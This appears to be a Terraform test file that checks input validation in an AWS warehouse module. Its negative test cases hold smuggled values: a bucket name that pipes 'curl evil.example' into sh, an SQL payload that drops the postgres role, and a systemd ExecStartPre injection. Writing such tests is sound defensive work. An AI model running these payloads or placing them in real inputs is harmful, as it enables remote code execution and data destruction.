# Input validation of the warehouse module: each run feeds one hostile or wrong value and
# expects that variable to refuse it. Runs against the AWS emulator (the harness writes the
# provider override; ephemeral resources cannot be mocked), driven by tests/plan/test_warehouse.py.

variables {
  name                        = "cs-test"
  vpc_id                      = "vpc-0123456789abcdef0"
  subnet_id                   = "subnet-0123456789abcdef0"
  availability_zone           = "us-east-1a"
  ami                         = { id = "ami-0123456789abcdef0" }
  client_security_groups      = { etl = "sg-0123456789abcdef0" }
  client_cidrs                = ["10.20.64.0/24"]
  s3_prefix_list_id           = "pl-63a5400a"
  endpoints_security_group_id = "sg-0fedcba9876543210"
  artifacts = {
    bucket_name = "cs-test-artifacts"
    bucket_arn  = "arn:aws:s3:::cs-test-artifacts"
    kms_key_arn = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
  }
}

run "valid_inputs_plan" {
  command = plan
  assert {
    condition     = aws_instance.this.associate_public_ip_address == false && aws_instance.this.metadata_options[0].http_tokens == "required"
    error_message = "the host must have no public IP and require IMDSv2"
  }
  assert {
    condition     = strcontains(local.user_data, "dnf install -y -q postgresql15-server") && strcontains(local.user_data, "--host 127.0.0.1 --port 8080")
    error_message = "cloud-init must install PostgreSQL 15 from the repositories and bind Shiny to localhost"
  }
}

run "internet_cidr_refused" {
  command = plan
  variables { client_cidrs = ["0.0.0.0/0"] }
  expect_failures = [var.client_cidrs]
}

run "shell_injection_in_bucket_refused" {
  command = plan
  variables {
    artifacts = {
      bucket_name = "x'; curl evil.example | sh; '"
      bucket_arn  = "arn:aws:s3:::x"
      kms_key_arn = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
    }
  }
  expect_failures = [var.artifacts]
}

run "overlapping_prefixes_refused" {
  command = plan
  variables {
    artifacts = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      prefix        = "dw/"
      backup_prefix = "dw/backups/"
    }
  }
  expect_failures = [var.artifacts]
}

run "non_al2023_parameter_refused" {
  command = plan
  variables { ami = { ssm_parameter_name = "/aws/service/ami-windows-latest/Windows_Server-2022-English-Full-Base" } }
  expect_failures = [var.ami]
}

run "sql_injection_in_role_refused" {
  command = plan
  variables { database = { admin_user = "admin\"; DROP ROLE postgres; --" } }
  expect_failures = [var.database]
}



run "no_client_group_refused" {
  command = plan
  variables { client_security_groups = {} }
  expect_failures = [var.client_security_groups]
}

run "unit_file_injection_in_schedule_refused" {
  command = plan
  variables { backup = { on_calendar = "daily\nExecStartPre=/bin/sh -c id" } }
  expect_failures = [var.backup]
}
